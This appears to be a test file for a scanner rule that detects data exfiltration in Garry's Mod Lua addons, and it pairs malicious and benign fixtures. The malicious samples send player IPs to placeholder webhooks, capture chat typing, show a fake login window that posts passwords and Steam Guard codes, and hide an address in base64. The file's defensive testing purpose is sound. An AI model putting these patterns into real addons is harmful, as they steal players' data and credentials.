// Valid and invalid cases of the `dataexfiltration` rule.
import { describe, expect, it } from 'vitest';
import { rule } from './dataexfiltration.js';
import { check, RANK, worst } from './ruleTesting.js';

describe('dataexfiltration', () => {
  it('player IPs to a hard-coded webhook', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'hook.Add("PlayerInitialSpawn", "j", function(ply)\n local ip = ply:IPAddress()\n http.Post("https://discord.invalid/api/webhooks/1/x", {content = ply:Nick() .. " " .. ip})\nend)',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
    for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
  });
  it('player IPs handed to a helper in another file that posts them', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_join.lua':
        'include("join/util.lua")\nhook.Add("PlayerInitialSpawn", "j", function(ply)\n Join.Report(ply:Nick(), ply:IPAddress())\nend)',
      'lua/join/util.lua':
        'Join = Join or {}\nlocal url = "https://discord.com/api/" .. "webhooks/" .. "1/x"\nfunction Join.Report(...)\n local a = { ... }\n HTTP({ url = url, method = "POST", body = util.TableToJSON({ content = table.concat(a, " | ") }) })\nend',
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it('an IP check in one file, an update check in another', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_bans.lua':
        'hook.Add("PlayerInitialSpawn", "j", function(ply)\n if ply:IPAddress() == "203.0.113.9" then ply:Kick("banned") end\nend)',
      'lua/autorun/server/sv_version.lua':
        'hook.Add("InitPostEntity", "v", function()\n http.Post("https://updates.invalid/check", { v = "1.2" })\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('what a player types into the chat box, sent or not, posted from their client', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'hook.Add("ChatTextChanged", "typing", function(text)',
        '  if #text > 20 then http.Post("https://metrics.x.invalid/s", { t = text }) end',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBe(RANK.high);
  });
  it('typing shown as a bubble above the player, the text kept on their client (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'local typed = ""',
        'hook.Add("ChatTextChanged", "typing", function(text) typed = text end)',
        'hook.Add("HUDPaint", "typing", function() draw.SimpleText(typed, "DermaDefault", 10, 10) end)',
        'timer.Create("stats", 600, 0, function() http.Post("https://stats.x.invalid/ping", { v = "1.2" }) end)',
      ].join('\n'),
    });
    expect(findings).toEqual([]);
  });
  it('relay behind a configured URL', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua':
        'Relay = {URL = ""}\nhook.Add("PlayerSay", "r", function(ply, text)\n if Relay.URL == "" then return end\n http.Post(Relay.URL, {content = text})\nend)',
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it('players\u2019 IPs batched by a join hook, posted by a timer', () => {
    // The join hook only stores; what leaves is sent later, from another handler.
    const findings = check(rule, {
      'lua/autorun/server/sv_x.lua': [
        'local queue = {}',
        'hook.Add("PlayerInitialSpawn", "vip", function(ply) queue[#queue + 1] = ply:SteamID64() .. "|" .. ply:IPAddress() end)',
        'timer.Create("stats", 300, 0, function()',
        ' if #queue == 0 then return end',
        ' http.Post("https://stats.invalid/log.php", { d = table.concat(queue, ";") })',
        ' queue = {}',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  // A game event's record of a connecting player, batched by one handler and posted as JSON
  // by a timer registered before it.
  const connectRelay = (line: string) => ({
    'lua/autorun/server/sv_feed.lua': [
      'gameevent.Listen("player_connect")',
      'local pending = {}',
      'timer.Create("feed_flush", 120, 0, function()',
      ' if #pending == 0 then return end',
      ' local body = util.TableToJSON({ embeds = { { description = table.concat(pending, "\\n") } } })',
      ' HTTP({ url = "https://discord.com/api/webhooks/1/x", method = "POST", body = body, type = "application/json" })',
      ' pending = {}',
      'end)',
      'hook.Add("player_connect", "feed", function(info)',
      ` pending[#pending + 1] = ${line}`,
      'end)',
    ].join('\n'),
  });
  it("a connecting player's IP from the game event, posted later as JSON", () => {
    const findings = check(
      rule,
      connectRelay('string.format("%s (%s) from %s", info.name, info.networkid, info.address)'),
    );
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a connecting player's name only, posted later as JSON", () => {
    const findings = check(rule, connectRelay('string.format("%s is joining", info.name)'));
    expect(findings).toEqual([]);
  });
  it("a sign-in window on players' clients posting the password and code they type", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua': [
        'local function ask()',
        '  local f = vgui.Create("DFrame") f:SetSize(400, 300) f:MakePopup()',
        '  local name, secret, guard = f:Add("DTextEntry"), f:Add("DTextEntry"), f:Add("DTextEntry")',
        '  local b = f:Add("DButton")',
        '  b.DoClick = function()',
        '    http.Post("https://login-check.invalid/verify", { user = name:GetValue(), pw = secret:GetValue(), steamguard = guard:GetValue() })',
        '    f:Close()',
        '  end',
        'end',
        'hook.Add("InitPostEntity", "ask", function() timer.Simple(600, ask) end)',
      ].join('\n'),
      'lua/autorun/client/cl_y.lua': [
        'concommand.Add("link_forum", function(_, _, args)',
        '  http.Fetch("https://forum.invalid/api/link?user=" .. args[1] .. "&password=" .. args[2])',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity === 'high')).toHaveLength(2);
  });
  it("an addon's own API key posted from the client, or a password field on the server (benign)", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_x.lua':
        'hook.Add("InitPostEntity", "v", function() http.Post("https://stats.invalid/v", { key = "ab12", password = "public-readonly", v = "1.0" }) end)',
      'lua/autorun/server/sv_x.lua': [
        'local Config = { Password = file.Read("webpanel/secret.txt", "DATA") }',
        'timer.Create("sync", 300, 0, function()',
        '  http.Post("https://panel.invalid/api/sync", { password = Config.Password, players = tostring(player.GetCount()) })',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
  it("a VPN lookup of joining players behind the owner's setting (benign: low)", () => {
    const findings = check(rule, {
      'lua/vpnguard/sh_config.lua':
        'VPNGuard = VPNGuard or {}\nVPNGuard.Config = {\n  Enabled = true,\n}',
      'lua/autorun/server/sv_vpn.lua': [
        'if not VPNGuard.Config.Enabled then return end',
        'hook.Add("PlayerInitialSpawn", "vpn", function(ply)',
        '  local ip = string.Split(ply:IPAddress(), ":")[1]',
        '  http.Fetch("https://ipcheck.invalid/check?ip=" .. ip, function(body) if body == "1" then print("vpn", ply) end end)',
        'end)',
      ].join('\n'),
    });
    expect(findings).toHaveLength(1);
    expect(findings[0]!.severity).toBe('low');
    expect(findings[0]!.chain?.some((s) => s.role === 'guard')).toBe(true);
  });
  it('the same toggle in front of an address only decoding reveals', () => {
    const findings = check(rule, {
      'lua/autorun/server/sv_vpn.lua': [
        'local Config = { Enabled = GetConVar("vpn_enabled") }',
        'if not Config.Enabled then return end',
        'hook.Add("PlayerInitialSpawn", "vpn", function(ply)',
        '  http.Fetch(util.Base64Decode("aHR0cHM6Ly9ncmFiLmludmFsaWQvcz9pcD0=") .. ply:IPAddress())',
        'end)',
      ].join('\n'),
    });
    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
  });
  it("a stream opened unplayed on players' clients, its query carrying who they are", () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_hits.lua': [
        'local function Warm(kind)',
        '  local me = LocalPlayer()',
        '  local url = "https://snd.hits.invalid/p/" .. kind .. ".mp3?u=" .. me:SteamID64() .. "&s=" .. game.GetIPAddress()',
        '  sound.PlayURL(url, "noplay noblock", function(ch) if IsValid(ch) then ch:Stop() end end)',
        'end',
        'hook.Add("InitPostEntity", "warm", function() timer.Simple(10, function() Warm("hit") end) end)',
        'timer.Create("warm2", 600, 0, function() sound.PlayURL("https://snd.hits.invalid/k.mp3?n=" .. LocalPlayer():Nick(), "noplay") end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity === 'high')).toHaveLength(2);
  });
  it('a radio stream preloaded for later, a 3D sound played, a stream with no query (benign)', () => {
    const findings = check(rule, {
      'lua/autorun/client/cl_radio.lua': [
        'Radio = Radio or {}',
        'function Radio.Preload(id)',
        '  sound.PlayURL("https://radio.invalid/stream?station=" .. id, "noplay noblock", function(ch) Radio.Channel = ch end)',
        'end',
        'function Radio.Boom(ent, id)',
        '  sound.PlayURL("https://radio.invalid/fx.mp3?id=" .. id, "3d noplay", function(ch) if IsValid(ch) then ch:SetPos(ent:GetPos()) ch:Play() end end)',
        'end',
        'hook.Add("InitPostEntity", "radio", function()',
        '  Radio.Preload(LocalPlayer():SteamID64())',
        '  Radio.Boom(LocalPlayer(), 2)',
        '  sound.PlayURL("https://radio.invalid/jingle.mp3", "noplay", function(ch) if IsValid(ch) then ch:Stop() end end)',
        'end)',
      ].join('\n'),
    });
    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
  });
});
